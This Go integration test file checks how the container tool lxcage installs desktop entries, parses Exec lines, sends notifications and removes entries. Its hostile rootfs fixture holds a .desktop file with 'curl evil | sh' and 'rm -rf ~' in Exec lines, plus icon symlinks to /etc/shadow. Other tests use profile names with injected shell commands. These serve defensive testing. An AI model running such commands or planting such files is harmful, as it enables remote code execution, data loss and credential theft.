//go:build integration

package integration

import (
	"bytes"
	"fmt"
	"image"
	"image/png"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/lxcage/lxcage/assets"
	"github.com/lxcage/lxcage/desktop/notifytest"
)

// desktopEnv is a test world with its own XDG_DATA_HOME, where entries
// and icons go.
func desktopEnv(t *testing.T) (*tenv, string) {
	t.Helper()
	e := newEnv(t)
	data := filepath.Join(t.TempDir(), "data")
	e.extra = append(e.extra, "XDG_DATA_HOME="+data)
	return e, data
}

func entryFile(data, name string) string {
	return filepath.Join(data, "applications", "lxcage-"+name+".desktop")
}

// needTool finds a tool the test needs (a failure under CI).
func needTool(t *testing.T, name string) string {
	t.Helper()
	p, err := exec.LookPath(name)
	need(t, err == nil, name+" (hack/setup-host.sh installs it)")
	return p
}

// tomlString quotes s as a TOML basic string.
func tomlString(s string) string {
	return `"` + strings.NewReplacer(`\`, `\\`, `"`, `\"`).Replace(s) + `"`
}

// filesUnder lists the files under dir, relative to it.
func filesUnder(dir string) []string {
	var out []string
	filepath.Walk(dir, func(p string, fi os.FileInfo, err error) error {
		if err == nil && !fi.IsDir() {
			rel, _ := filepath.Rel(dir, p)
			out = append(out, rel)
		}
		return nil
	})
	return out
}

// TestDesktopEntriesValidate installs the entry of every preset and of
// profiles with awkward names and descriptions, and has Debian's
// desktop-file-validate check each: no error, no warning.
func TestDesktopEntriesValidate(t *testing.T) {
	validate := needTool(t, "desktop-file-validate")
	e, data := desktopEnv(t)
	for _, p := range assets.Presets() {
		e.mustRun("new", p, "--preset", p)
	}
	awkward := map[string][2]string{
		"quotes":    {`Say "hi" & 'bye'`, `The "Best" App's Window`},
		"percent":   {"100% sure %U %F %% %", "50% App %u"},
		"dollar":    {"costs $HOME ${PATH} $(id)", "$USER's app"},
		"backticks": {"never runs `rm -rf ~`; echo pwned", "`whoami` app"},
		"unicode":   {"Ünïcödé — 日本語 ✓ 🙂", "Grüße (sandkasten) 🙂"},
		"spaces":    {"  leading and trailing  ", " spaced  name "},
		"backslash": {`C:\Windows\ \n \\`, `back\slash \t`},
	}
	for name, v := range awkward {
		e.profile(name, fmt.Sprintf("description = %s\ncommand = [\"xeyes\"]\n[desktop]\nname = %s\nkeywords = [%s, \"a b\"]\n",
			tomlString(v[0]), tomlString(v[1]), tomlString(strings.ReplaceAll(v[0], ";", ","))))
	}
	e.profile("plain", "command = [\"xeyes\"]\n")
	r := e.mustRun("desktop", "install", "--all")
	names := append(assets.Presets(), "plain")
	for n := range awkward {
		names = append(names, n)
	}
	for _, n := range names {
		f := entryFile(data, n)
		out, err := exec.Command(validate, f).CombinedOutput()
		text, _ := os.ReadFile(f)
		if err != nil || bytes.Contains(out, []byte("error:")) || bytes.Contains(out, []byte("warning:")) {
			t.Errorf("%s: desktop-file-validate: %v\n%s\n%s", n, err, out, text)
		}
		if !bytes.Contains(text, []byte("X-Lxcage-Profile="+n+"\n")) || !bytes.Contains(text, []byte("TryExec="+lxcageBin+"\n")) {
			t.Errorf("%s: entry lacks its marks:\n%s", n, text)
		}
	}
	list := e.mustRun("desktop", "list").stdout
	for _, n := range names {
		if !strings.Contains(list, n+" ") || strings.Contains(list, "outdated") {
			t.Errorf("desktop list:\n%s", list)
			break
		}
	}
	t.Logf("%d entries validated\n%s", len(names), r.stdout)
}

// specExec parses an Exec value by the Desktop Entry spec: the string
// escapes (\s \n \t \r \\), then arguments split at unquoted spaces,
// "…" quoting with \" \` \$ \\ inside, %% for %, and %U/%F replaced by
// the items (one argument each) where they stand alone.
func specExec(raw string, items []string) []string {
	s := strings.NewReplacer(`\\`, `\`, `\s`, " ", `\n`, "\n", `\t`, "\t", `\r`, "\r").Replace(raw)
	var out []string
	var cur strings.Builder
	inArg, quoted, wasQuoted := false, false, false
	flush := func() {
		a := cur.String()
		cur.Reset()
		if !wasQuoted && (a == "%U" || a == "%F") {
			out = append(out, items...)
		} else {
			out = append(out, strings.ReplaceAll(a, "%%", "%"))
		}
		inArg, wasQuoted = false, false
	}
	for i := 0; i < len(s); i++ {
		c := s[i]
		switch {
		case quoted && c == '\\' && i+1 < len(s):
			i++
			cur.WriteByte(s[i])
		case quoted && c == '"':
			quoted = false
		case quoted:
			cur.WriteByte(c)
		case c == '"':
			quoted, inArg, wasQuoted = true, true, true
		case c == ' ':
			if inArg {
				flush()
			}
		default:
			cur.WriteByte(c)
			inArg = true
		}
	}
	if inArg {
		flush()
	}
	return out
}

// execOf reads the Exec line of an entry's main group.
func execOf(t *testing.T, file string) string {
	t.Helper()
	b, err := os.ReadFile(file)
	if err != nil {
		t.Fatal(err)
	}
	for _, l := range strings.Split(string(b), "\n") {
		if strings.HasPrefix(l, "Exec=") {
			return strings.TrimPrefix(l, "Exec=")
		}
		if strings.HasPrefix(l, "[Desktop Action") {
			break
		}
	}
	t.Fatalf("no Exec in %s", file)
	return ""
}

// TestDesktopExecPassesURL: the entry's Exec line, parsed by the spec's
// rules with a URL for %U, runs lxcage launch, and the app inside the
// container gets the URL as one intact argument. gio launch (GLib's
// launcher, a real click's path) does the same.
func TestDesktopExecPassesURL(t *testing.T) {
	e, data := desktopEnv(t)
	shared := filepath.Join(t.TempDir(), "out")
	os.MkdirAll(shared, 0o755)
	os.Chmod(filepath.Dir(shared), 0o755)
	e.profile("args", `command = ["sh", "-c", "for a; do printf '%s\\n' \"$a\"; done > /home/user/out/args.tmp && mv /home/user/out/args.tmp /home/user/out/args", "sh"]
[[share]]
host = `+tomlString(shared)+`
path = "/home/user/out"
[desktop]
mime_types = ["x-scheme-handler/https", "text/html"]
`)
	e.mustRun("desktop", "install", "args")
	url := "https://example.com/a b?x=1&y=$HOME;`id` 'q' \"dq\" %20 \\ ü"
	argv := specExec(execOf(t, entryFile(data, "args")), []string{url})
	if len(argv) < 3 || argv[0] != lxcageBin {
		t.Fatalf("Exec parses to %q", argv)
	}
	cmd := exec.Command(argv[0], argv[1:]...)
	cmd.Env = e.environ()
	if out, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("%q: %v\n%s", argv, err, out)
	}
	got, _ := os.ReadFile(filepath.Join(shared, "args"))
	if string(got) != url+"\n" {
		t.Errorf("the app got %q, want %q", got, url+"\n")
	}

	gio := needTool(t, "gio")
	os.Remove(filepath.Join(shared, "args"))
	url2 := "https://example.com/path?q=1&x=$y;`z`"
	g := exec.Command(gio, "launch", entryFile(data, "args"), url2)
	g.Env = e.environ()
	if out, err := g.CombinedOutput(); err != nil {
		t.Fatalf("gio launch: %v\n%s", err, out)
	}
	deadline := time.Now().Add(20 * time.Second)
	for time.Now().Before(deadline) {
		if got, err := os.ReadFile(filepath.Join(shared, "args")); err == nil {
			if string(got) != url2+"\n" {
				t.Errorf("via gio launch the app got %q, want %q", got, url2+"\n")
			}
			return
		}
		time.Sleep(50 * time.Millisecond)
	}
	t.Fatal("the app launched by gio never wrote its arguments")
}

// notifyServer serves org.freedesktop.Notifications on the user's real
// session bus for one test.
func notifyServer(t *testing.T) *notifytest.Server {
	t.Helper()
	addr := os.Getenv("DBUS_SESSION_BUS_ADDRESS")
	need(t, addr != "", "DBUS_SESSION_BUS_ADDRESS (a session dbus-daemon)")
	srv, err := notifytest.Start(addr, "body")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { srv.Close() })
	return srv
}

// TestDesktopClickShowsWindow simulates a click: gio launch on the entry
// (as a menu does), and the app's window appears on the real X server.
// Nothing is notified when it works.
func TestDesktopClickShowsWindow(t *testing.T) {
	gio := needTool(t, "gio")
	e, data := desktopEnv(t)
	x := xconn(t)
	srv := notifyServer(t)
	e.mustRun("new", "eyes", "--preset", "xeyes")
	e.mustRun("desktop", "install", "eyes")
	// A file, not a pipe: gio exits at once, and the launch it starts
	// has no terminal, as from a menu.
	logf, err := os.Create(filepath.Join(t.TempDir(), "click.log"))
	if err != nil {
		t.Fatal(err)
	}
	defer logf.Close()
	cmd := exec.Command(gio, "launch", entryFile(data, "eyes"))
	cmd.Env = e.environ()
	cmd.Stdout, cmd.Stderr = logf, logf
	if err := cmd.Run(); err != nil {
		t.Fatalf("gio launch: %v", err)
	}
	w, ok := waitWindow(t, x, "xeyes", 20*time.Second)
	if !ok {
		out, _ := os.ReadFile(logf.Name())
		t.Fatalf("no xeyes window after the click; output:\n%s", out)
	}
	if len(procsNamed("xeyes")) == 0 {
		t.Error("the window's xeyes does not run in a container")
	}
	if st := e.state("eyes"); st != "RUNNING" {
		t.Errorf("container %s", st)
	}
	killClient(t, x, w)
	if !e.waitState("eyes", "STOPPED", 10*time.Second) {
		t.Errorf("container %s after the window closed", e.state("eyes"))
	}
	time.Sleep(300 * time.Millisecond)
	// A first click whose container takes longer than a moment to build
	// (on a slow machine, such as the emulated VM of make test-vm) shows
	// "Setting up …" and then "… is ready", by design; nothing else.
	for _, n := range srv.Drain() {
		if !strings.HasPrefix(n.Summary, "Setting up ") && !strings.HasSuffix(n.Summary, " is ready") {
			t.Errorf("a working launch sent a notification: %+v", n)
		}
	}
}

// TestDesktopNotifications makes launches fail the ways a user meets
// (command missing, container refusing to start, broken profile) with a
// notification server on the real session bus, and checks what it
// receives; a working launch sends nothing, and without a bus the error
// still reaches stderr.
func TestDesktopNotifications(t *testing.T) {
	e, data := desktopEnv(t)
	srv := notifyServer(t)
	icon := "file://" + filepath.Join(data, "icons", "hicolor", "scalable", "apps", "lxcage.svg")
	expect := func(t *testing.T, code int, r result, summary string, body ...string) {
		t.Helper()
		if r.code != code {
			t.Errorf("status %d, want %d; stderr:\n%s", r.code, code, r.stderr)
		}
		n, ok := srv.Next(10 * time.Second)
		if !ok {
			t.Fatalf("no notification; stderr:\n%s", r.stderr)
		}
		if n.Summary != summary || n.Icon != icon || n.AppName != "lxcage" || n.Hints["urgency"].Value() != byte(2) {
			t.Errorf("notification %+v", n)
		}
		for _, b := range body {
			if !strings.Contains(n.Body, b) {
				t.Errorf("body lacks %q:\n%s", b, n.Body)
			}
		}
		if more := srv.Drain(); len(more) != 0 {
			t.Errorf("more notifications: %+v", more)
		}
	}

	t.Run("command not found", func(t *testing.T) {
		e.profile("missing", "command = [\"no-such-program-here\"]\n[desktop]\nname = \"Missing App (sandboxed)\"\n")
		r := e.run("launch", "missing", "--", "https://example.com")
		log := filepath.Join(e.cache, "lxcage", "missing.log")
		expect(t, 127, r, "Missing App (sandboxed) could not start",
			`"no-such-program-here" was not found`, "\nFix: ", "\nDetails: "+log)
		b, _ := os.ReadFile(log)
		if !strings.Contains(string(b), "lxcage launch missing: exit status 127") {
			t.Errorf("log %s:\n%s", log, b)
		}
		if b, err := os.ReadFile(strings.TrimPrefix(icon, "file://")); err != nil || !bytes.Equal(b, assets.Icon()) {
			t.Errorf("notification icon: %v", err)
		}
	})

	t.Run("container does not start", func(t *testing.T) {
		policy := filepath.Join(t.TempDir(), "bad.seccomp")
		os.WriteFile(policy, []byte("not a seccomp policy\n"), 0o644)
		os.Chmod(filepath.Dir(policy), 0o755)
		e.profile("badsec", "command = [\"true\"]\n[security]\nseccomp = "+tomlString(policy)+"\n")
		r := e.run("launch", "badsec")
		expect(t, 1, r, "Badsec (sandboxed) could not start",
			"Its container did not start: seccomp", `Fix: Run "lxcage check"`, "\nDetails: "+filepath.Join(e.cache, "lxcage", "badsec.log"))
	})

	t.Run("broken profile", func(t *testing.T) {
		e.profile("broken", "command = [\"true\"]\n[acess]\nx11 = true\n")
		r := e.run("launch", "broken")
		expect(t, 1, r, "Broken (sandboxed) could not start", "broken.toml:2", "unknown key [acess]", "Details: ")
	})

	t.Run("no such profile, from a script", func(t *testing.T) {
		r := e.run("launch", "nosuch")
		n, ok := srv.Next(10 * time.Second)
		if r.code == 0 || !ok || !strings.HasPrefix(n.Body, "There is no profile nosuch") || !strings.Contains(n.Body, "lxcage list") {
			t.Fatalf("status %d, notification %+v", r.code, n)
		}
		if strings.Contains(n.Body, "desktop remove") {
			t.Errorf("suggests removing a menu entry that does not exist:\n%s", n.Body)
		}
	})

	t.Run("success sends nothing", func(t *testing.T) {
		e.profile("fine", "command = [\"true\"]\n")
		for i := 0; i < 2; i++ { // the first launch creates the container
			if r := e.run("launch", "fine"); r.code != 0 {
				t.Fatalf("launch: %d\n%s", r.code, r.stderr)
			}
		}
		if n, ok := srv.Next(time.Second); ok {
			t.Errorf("a working launch sent %+v", n)
		}
	})

	t.Run("running without sound warns", func(t *testing.T) {
		nosound := *e
		nosound.t = t
		nosound.extra = append(slices.Clone(e.extra), "PULSE_SERVER=unix:"+filepath.Join(t.TempDir(), "nosuch"))
		e.profile("quiet", "command = [\"true\"]\n[access]\npulseaudio = true\n[desktop]\nname = \"Quiet (sandboxed)\"\n")
		r := nosound.run("launch", "quiet")
		if r.code != 0 || !strings.Contains(r.stderr, "warning: running without sound") {
			t.Fatalf("status %d, stderr:\n%s", r.code, r.stderr)
		}
		n, ok := srv.Next(10 * time.Second)
		if !ok {
			t.Fatal("no notification of the warning")
		}
		lines := strings.Split(n.Body, "\n")
		if n.Summary != "Quiet (sandboxed): running without sound" || len(lines) != 2 || strings.Contains(lines[0], "running without") {
			t.Errorf("warning notification: summary %q, body:\n%s", n.Summary, n.Body)
		}
	})

	t.Run("other commands only with --notify", func(t *testing.T) {
		if r := e.run("compile", "broken"); r.code == 0 {
			t.Fatal("compile of a broken profile worked")
		}
		if n, ok := srv.Next(500 * time.Millisecond); ok {
			t.Errorf("compile without --notify sent %+v", n)
		}
		r := e.run("--notify", "compile", "broken")
		n, ok := srv.Next(5 * time.Second)
		if !ok || n.Summary != "lxcage compile failed" || !strings.Contains(n.Body, "unknown key [acess]") {
			t.Errorf("--notify compile: %+v (stderr %s)", n, r.stderr)
		}
	})

	t.Run("no session bus", func(t *testing.T) {
		old := e.extra
		defer func() { e.extra = old }()
		e.extra = append(append([]string{}, old...), "DBUS_SESSION_BUS_ADDRESS=unix:path=/nonexistent/bus")
		r := e.run("launch", "missing")
		if r.code != 127 || !strings.Contains(r.stderr, "no desktop notification") || strings.Contains(r.stderr, "panic") {
			t.Errorf("status %d, stderr:\n%s", r.code, r.stderr)
		}
		if n, ok := srv.Next(500 * time.Millisecond); ok {
			t.Errorf("notified on the real bus anyway: %+v", n)
		}
	})
}

// writeFixture makes a hostile container rootfs for profile name in the
// test's LXC path, with a secret outside it that must never be copied.
func writeFixture(t *testing.T, e *tenv, name string) (secret []byte) {
	t.Helper()
	root := filepath.Join(e.lxcpath, name, "rootfs")
	// Not a container: gone before the test's cleanup asks LXC to
	// destroy what is in the LXC path.
	t.Cleanup(func() { os.RemoveAll(filepath.Join(e.lxcpath, name)) })
	outside := t.TempDir()
	img := image.NewNRGBA(image.Rect(0, 0, 48, 48))
	for i := range img.Pix {
		img.Pix[i] = 0xee
	}
	var b bytes.Buffer
	png.Encode(&b, img)
	secretPNG := filepath.Join(outside, "secret.png")
	os.WriteFile(secretPNG, b.Bytes(), 0o644)
	mk := func(rel string, data []byte) {
		p := filepath.Join(root, rel)
		os.MkdirAll(filepath.Dir(p), 0o755)
		if err := os.WriteFile(p, data, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	link := func(target, rel string) {
		p := filepath.Join(root, rel)
		os.MkdirAll(filepath.Dir(p), 0o755)
		if err := os.Symlink(target, p); err != nil {
			t.Fatal(err)
		}
	}
	mk("usr/share/applications/evil.desktop", []byte(`[Desktop Entry]
Type=Application
Name=Evil\nExec=/bin/sh -c 'curl evil | sh'
Comment=Harmless, really
Exec=evil; rm -rf ~
TryExec=/bin/sh
DBusActivatable=true
Icon=evil
MimeType=text/html;not a type;
Categories=Network;
StartupWMClass=Evil
`))
	link("/etc/shadow", "usr/share/icons/hicolor/48x48/apps/evil.png")
	link(strings.Repeat("../", 16)+strings.TrimPrefix(secretPNG, "/"), "usr/share/icons/hicolor/scalable/apps/evil.svg")
	link(secretPNG, "usr/share/icons/hicolor/256x256/apps/evil.png")
	big := filepath.Join(root, "usr/share/pixmaps/evil.png")
	mk("usr/share/pixmaps/evil.png", []byte("\x89PNG\r\n\x1a\n"))
	if err := os.Truncate(big, 50<<20); err != nil {
		t.Fatal(err)
	}
	syscall.Mkfifo(filepath.Join(root, "usr/share/pixmaps/evil.svg"), 0o644)
	return b.Bytes()
}

// TestDesktopIconsFromRootfs installs and imports from a hostile rootfs:
// a .desktop whose Exec has "; rm -rf", an icon symlinked to /etc/shadow
// and out of the rootfs, a 50 MB "png" and a FIFO. None of it reaches the
// host: the entry gets lxcage's own icon and lxcage's own Exec.
func TestDesktopIconsFromRootfs(t *testing.T) {
	e, data := desktopEnv(t)
	secret := writeFixture(t, e, "evil")
	e.profile("evil", `# hand-written, keep this comment
command = ["evil"]
[image]
type = "download"
dist = "debian"
release = "bookworm"
arch = "amd64"
`)
	r := e.mustRun("desktop", "install", "evil")
	if !strings.Contains(r.stderr, "file too large") {
		t.Errorf("no warning about the refused icons:\n%s", r.stderr)
	}
	got := filesUnder(data)
	want := []string{"applications/lxcage-evil.desktop", "applications/mimeinfo.cache", "icons/hicolor/scalable/apps/lxcage-evil.svg"}
	if strings.Join(got, " ") != strings.Join(want, " ") {
		t.Errorf("installed %q, want %q", got, want)
	}
	icon, _ := os.ReadFile(filepath.Join(data, "icons/hicolor/scalable/apps/lxcage-evil.svg"))
	if !bytes.Equal(icon, assets.Icon()) {
		t.Error("the icon is not lxcage's own")
	}
	for _, f := range got {
		b, _ := os.ReadFile(filepath.Join(data, f))
		for _, bad := range [][]byte{secret, []byte("rm -rf"), []byte("curl"), []byte("/bin/sh")} {
			if bytes.Contains(b, bad) {
				t.Errorf("%s carries %.20q from the container", f, bad)
			}
		}
	}
	if exec := execOf(t, entryFile(data, "evil")); !strings.HasPrefix(exec, lxcageBin+" -P ") || !strings.HasSuffix(exec, " launch evil %U") {
		t.Errorf("Exec=%s", exec)
	}

	r = e.mustRun("desktop", "import", "evil")
	prof, _ := os.ReadFile(filepath.Join(e.config, "lxcage", "profiles", "evil.toml"))
	for _, w := range []string{"# hand-written, keep this comment", `icon = "evil"`, `mime_types = ["text/html"]`, `wm_class = "Evil"`, `comment = "Harmless, really"`} {
		if !strings.Contains(string(prof), w) {
			t.Errorf("profile lacks %q:\n%s", w, prof)
		}
	}
	for _, bad := range []string{"rm -rf", "curl", "DBus", "TryExec", "not a type"} {
		if strings.Contains(string(prof), bad) {
			t.Errorf("profile carries %q:\n%s", bad, prof)
		}
	}
	if !strings.Contains(r.stdout, "dropped desktop.name") {
		t.Errorf("import output:\n%s", r.stdout)
	}
	e.mustRun("compile", "evil")
}

// TestDesktopRemoveLeavesNothing: delete and remove take entry, icons and
// default-handler registrations away; entries whose profile is gone are
// listed as stale and removed with --stale.
func TestDesktopRemoveLeavesNothing(t *testing.T) {
	xdgMime := needTool(t, "xdg-mime")
	e, data := desktopEnv(t)
	e.profile("web", "command = [\"true\"]\n[desktop]\nmime_types = [\"x-scheme-handler/lxcagetest\"]\n")
	e.profile("keep", "command = [\"true\"]\n")
	e.profile("gone", "command = [\"true\"]\n")
	e.mustRun("desktop", "install", "--all")
	e.mustRun("desktop", "install", "web", "--default")
	query := func() string {
		cmd := exec.Command(xdgMime, "query", "default", "x-scheme-handler/lxcagetest")
		cmd.Env = append(e.environ(), "XDG_CURRENT_DESKTOP=", "DESKTOP_SESSION=")
		out, _ := cmd.Output()
		return strings.TrimSpace(string(out))
	}
	if q := query(); q != "lxcage-web.desktop" {
		t.Errorf("xdg-mime query default: %q", q)
	}
	if l := e.mustRun("desktop", "list").stdout; !strings.Contains(l, "x-scheme-handler/lxcagetest") {
		t.Errorf("list lacks the default:\n%s", l)
	}

	os.Remove(filepath.Join(e.config, "lxcage", "profiles", "gone.toml"))
	if l := e.mustRun("desktop", "list").stdout; !strings.Contains(l, "gone") || !strings.Contains(l, "stale") {
		t.Errorf("list does not report the stale entry:\n%s", l)
	}
	e.mustRun("desktop", "remove", "--stale")
	if _, err := os.Stat(entryFile(data, "gone")); err == nil {
		t.Error("stale entry kept")
	}

	e.mustRun("delete", "web")
	if _, err := os.Stat(filepath.Join(e.config, "lxcage", "profiles", "web.toml")); err == nil {
		t.Error("profile kept")
	}
	if q := query(); q != "" {
		t.Errorf("still the default handler: %q", q)
	}
	mimeapps, _ := os.ReadFile(filepath.Join(e.config, "mimeapps.list"))
	if bytes.Contains(mimeapps, []byte("lxcage-web")) {
		t.Errorf("mimeapps.list:\n%s", mimeapps)
	}
	for _, bad := range [][]string{{"desktop", "install", "--stale"}, {"desktop", "remove", "keep", "--all"}, {"desktop", "frobnicate"}, {"desktop", "install"}} {
		if r := e.run(bad...); r.code != 2 {
			t.Errorf("%q: status %d, want a usage error\n%s", bad, r.code, r.stderr)
		}
	}
	e.mustRun("desktop", "remove", "--all")
	for _, f := range filesUnder(data) {
		if strings.Contains(f, "lxcage-") {
			t.Errorf("left behind: %s", f)
		}
	}
	if r := e.run("delete", "nothing-here"); r.code == 0 {
		t.Error("delete of a profile that does not exist worked")
	}
}
